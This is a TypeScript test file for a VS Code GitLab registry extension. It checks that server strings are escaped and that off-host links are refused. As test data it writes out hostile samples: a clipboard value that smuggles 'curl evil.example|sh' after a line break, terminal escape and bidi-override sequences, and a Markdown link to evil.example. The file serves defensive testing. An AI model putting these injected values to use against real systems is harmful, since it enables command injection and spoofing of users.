// What the server says, shown or opened safely: Open in Browser opens only the account's own pages, and
// hostile strings (controls, Markdown) in tree labels and tooltips are stripped or escaped.
import * as assert from 'assert';
import * as vscode from 'vscode';
import { test, harness } from '../../harness/inhost';
import type { TagNode } from '../../../src/extension/tree/nodes';
import {
  addAccount, captureMessages, children, doubleHost, fresh, path, removeAllAccounts, restoreUi, type GitLabRegistryApi,
} from './extension-helpers';

/** Records the URLs the extension asks the browser to open (none is really opened). */
function recordOpened(a: GitLabRegistryApi): string[] {
  const opened: string[] = [];
  a.ui.openExternal = async (url) => {
    opened.push(url);
    return true;
  };
  return opened;
}

test('Open in Browser opens the project\'s registry page on the account\'s host', async () => {
  const a = await fresh();
  await addAccount(a, 'owner');
  const project = await path(a, doubleHost(), 'acme/website');
  const opened = recordOpened(a);
  try {
    await vscode.commands.executeCommand('gitlabRegistry.openInBrowser', project);
  } finally {
    restoreUi(a);
  }
  assert.deepStrictEqual(opened, [`http://${doubleHost()}/acme/website/container_registry`]);
});

test('Open in Browser refuses a web_url on another host (GitLab\'s answer is a server string) and says so', async () => {
  const a = await fresh();
  await harness.restartDouble({ linkOrigin: 'https://evil.example' });
  try {
    await addAccount(a, 'owner');
    const project = await path(a, doubleHost(), 'acme/website');
    const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
    const opened = recordOpened(a);
    const shown = captureMessages(a);
    try {
      assert.strictEqual(await vscode.commands.executeCommand('gitlabRegistry.openInBrowser', project), undefined);
      assert.strictEqual(await vscode.commands.executeCommand('gitlabRegistry.openInBrowser', repo), undefined);
    } finally {
      restoreUi(a);
    }
    assert.deepStrictEqual(opened, []);
    assert.deepStrictEqual(shown.messages.map((m) => m.level), ['warning', 'warning']);
    assert.strictEqual(shown.messages[0].text,
      `Not opening https://evil.example/acme/website/container_registry: GitLab gave a page address outside http://${doubleHost()}.`);
  } finally {
    await removeAllAccounts(a);
    await harness.restartDouble({});
  }
});

test('a hostile tag location cannot leave its code span in the tooltip; controls never reach a label', async () => {
  const a = await fresh();
  await addAccount(a, 'owner');
  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
  const hostile: TagNode = {
    kind: 'tag', id: `${repo.id}/t:hostile`, accountId: repo.accountId, parent: repo, repositoryId: 5, projectId: 3,
    tag: { name: 'x\u001b]0;owned\u0007y', path: 'acme/website:x', location: 'r.example/a:x`[click](https://evil.example)`\n```\nz' },
  };
  const item = a.provider.getTreeItem(hostile);
  assert.strictEqual(item.label, 'x]0;ownedy');
  const tooltip = (item.tooltip as vscode.MarkdownString).value;
  assert.ok(tooltip.includes('`r.example/a:x[click](https://evil.example)  z`'), tooltip);
  assert.ok(tooltip.includes('docker pull r.example/a:x[click](https://evil.example)  z\n```'), tooltip);
  assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(tooltip), 'no control characters');
});

test('GitLab\'s error text reaches a notification without control characters (no ESC/OSC/C1, no bidi override)', async () => {
  const a = await fresh();
  await addAccount(a, 'owner');
  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
  await harness.control('POST', '/__double/faults', {
    method: 'GET', path: '^/api/v4/projects/3/registry/repositories/5/tags/', status: 403, times: 50,
    body: JSON.stringify({ message: '403 Forbidden \u001b]0;owned\u0007\u001b[31mred\u009b\u202egnp.exe' }),
  });
  const shown = captureMessages(a);
  try {
    const tag = (await children(a, repo)).find((n) => n.kind === 'tag');
    assert.ok(tag);
    a.model.refresh(repo); // forget the tag details (newest first read them all), so Copy Digest asks GitLab
    await vscode.commands.executeCommand('gitlabRegistry.copyDigest', tag);
  } finally {
    shown.restore();
    await harness.control('DELETE', '/__double/faults');
  }
  const error = shown.messages.find((m) => m.level === 'error');
  assert.ok(error, JSON.stringify(shown.messages));
  assert.match(error.text, /owned\[31mredgnp\.exe/);
  assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(error.text), JSON.stringify(error.text));
});

test('Copy Image Reference puts no control character on the clipboard (a pasted line break would run a command)', async () => {
  const a = await fresh();
  await addAccount(a, 'owner');
  const repo = await path(a, doubleHost(), 'acme/website', '(root image)');
  const hostile: TagNode = {
    kind: 'tag', id: `${repo.id}/t:paste`, accountId: repo.accountId, parent: repo, repositoryId: 5, projectId: 3,
    tag: { name: 'x', path: 'acme/website:x', location: 'r.example/a:x\ncurl evil.example|sh\r\u001b[8m' },
  };
  const copied = await vscode.commands.executeCommand<string>('gitlabRegistry.copyImageReference', hostile);
  assert.strictEqual(copied, 'r.example/a:x curl evil.example|sh [8m');
  assert.strictEqual(await vscode.env.clipboard.readText(), 'r.example/a:x curl evil.example|sh [8m');
});
